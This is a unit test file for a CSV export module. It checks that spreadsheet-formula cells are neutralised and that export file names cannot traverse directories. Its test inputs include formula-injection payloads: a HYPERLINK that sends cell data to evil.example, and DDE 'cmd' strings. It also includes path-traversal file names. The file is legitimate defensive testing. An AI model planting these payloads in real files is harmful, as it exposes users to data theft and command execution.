import { csvCell, csvForPeople, MAX_FILENAME_TITLE, neutraliseCell, safeFilename } from '../../cloudfunctions/core/csv';

describe('CSV files for people', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点这里"")"`],
    [`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`],
    ['-2+3+cmd|x', `'-2+3+cmd|x`],
    ['@SUM(1+1)*cmd|x', `'@SUM(1+1)*cmd|x`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula-like cell %j', (cell, written) => {
    const csv = csvForPeople([['答案'], [cell]]);
    expect(csv).toBe(`\ufeff答案\r\n${written}\r\n`);
  });

  it('leaves ordinary text, numbers and Chinese as they are', () => {
    expect(csvForPeople([['张三', '13800000000', '每天 = 常去', 'a@b.cn', '5']])).toBe(
      '\ufeff张三,13800000000,每天 = 常去,a@b.cn,5\r\n',
    );
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvForPeople([['a,b', 'say "hi"', 'two\nlines']])).toBe('\ufeff"a,b","say ""hi""","two\nlines"\r\n');
  });

  it('neutralises only the first character’s kind, and the machine format keeps text exactly', () => {
    expect(neutraliseCell('1=1')).toBe('1=1');
    expect(neutraliseCell('')).toBe('');
    expect(csvCell('=SUM(A1)')).toBe('=SUM(A1)');
  });
});

describe('safe export file names', () => {
  it('keeps Chinese, letters, digits and the suffix', () => {
    expect(safeFilename('2026 冬季 便民活动 (一)', '报名名单.csv')).toBe('2026 冬季 便民活动 (一)-报名名单.csv');
  });

  it('cannot climb out of the downloads folder or name a hidden file', () => {
    const name = safeFilename('../../x', '报名名单.csv');
    expect(name).not.toMatch(/[/\\]|\.\./);
    expect(name).toBe('x-报名名单.csv');
    expect(safeFilename('..\\..\\windows\\system32', 'a.csv')).not.toMatch(/[/\\]|\.\./);
    expect(safeFilename('.bashrc', 'a.csv').startsWith('.')).toBe(false);
  });

  it('replaces control characters, direction overrides and reserved characters', () => {
    const name = safeFilename('a\u0000b\u202ec\td<e>f:g*h?i|j"k', 'r.csv');
    expect(name).toBe('a_b_c_d_e_f_g_h_i_j_k-r.csv');
  });

  it(`cuts a long title to ${MAX_FILENAME_TITLE} characters and keeps the suffix`, () => {
    const name = safeFilename('长'.repeat(500), '问卷结果.csv');
    expect(name).toBe(`${'长'.repeat(MAX_FILENAME_TITLE)}-问卷结果.csv`);
    expect(Buffer.byteLength(name)).toBeLessThan(255);
  });

  it('names an export with nothing usable in its title 「导出」', () => {
    expect(safeFilename('', '报名名单.csv')).toBe('导出-报名名单.csv');
    expect(safeFilename('../..', '报名名单.csv')).toBe('导出-报名名单.csv');
    expect(safeFilename('///', '问卷结果.csv')).toBe('导出-问卷结果.csv');
  });
});
